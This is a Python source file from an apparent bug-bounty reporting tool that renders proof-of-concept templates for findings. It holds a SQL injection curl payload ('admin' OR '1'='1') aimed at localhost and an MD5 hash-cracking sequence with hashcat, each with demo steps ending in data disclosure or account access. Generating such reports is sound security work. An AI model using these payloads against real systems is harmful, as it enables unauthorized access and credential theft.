# Copyright (c) 2026 Veritas Aequitas Holdings LLC. All rights reserved.
"""Deterministic proof-of-concept templates keyed by finding category."""

from __future__ import annotations

from dataclasses import dataclass

from bountyagent.core.constants import Category
from bountyagent.models.finding import Finding


@dataclass(frozen=True)
class ExploitTemplate:
    """Format strings rendered against one finding.

    Placeholders: ``{file}``, ``{line}``, ``{location}``, ``{category}``.
    """

    title: str
    exploit_code: str
    expected_result: str
    demo_steps: tuple[str, ...]

    def render(self, finding: Finding) -> dict[str, object]:
        values = {
            "file": finding.file,
            "line": finding.line,
            "location": finding.location,
            "category": finding.category,
        }
        return {
            "title": self.title.format(**values),
            "exploit_code": self.exploit_code.format(**values),
            "expected_result": self.expected_result.format(**values),
            "demo_steps": [step.format(**values) for step in self.demo_steps],
        }


SQL_INJECTION = ExploitTemplate(
    title="SQL Injection in {file}",
    exploit_code=(
        "# Query built by string concatenation at {location}\n"
        "curl -X POST http://localhost:3000/api/search \\\n"
        '  -H "Content-Type: application/json" \\\n'
        "  -d '{{\"query\": \"admin' OR '1'='1\"}}'"
    ),
    expected_result="Returns all database records without authentication",
    demo_steps=(
        "Locate the endpoint backed by the query at {location}",
        "Inject SQL payload in parameter",
        "Observe unauthorized data disclosure",
        "Confirm complete database compromise",
    ),
)

WEAK_PASSWORD_HASH = ExploitTemplate(
    title="Password Hash Cracking in {file}",
    exploit_code=(
        "# Weak password hash computed at {location}\n"
        "# Generate rainbow table\n"
        'echo -n "password123" | md5sum\n'
        "# Crack hash\n"
        "hashcat -m 0 -a 0 hashes.txt wordlist.txt"
    ),
    expected_result="Recover plaintext passwords from weak hashes",
    demo_steps=(
        "Extract password hashes from database",
        "Use rainbow table or hashcat",
        "Crack weak MD5/SHA1 hashes",
        "Gain unauthorized account access",
    ),
)

TEMPLATES: dict[str, ExploitTemplate] = {
    Category.SQL_INJECTION: SQL_INJECTION,
    Category.WEAK_PASSWORD_HASHING: WEAK_PASSWORD_HASH,
}


def template_for(finding: Finding) -> ExploitTemplate | None:
    return TEMPLATES.get(finding.category)
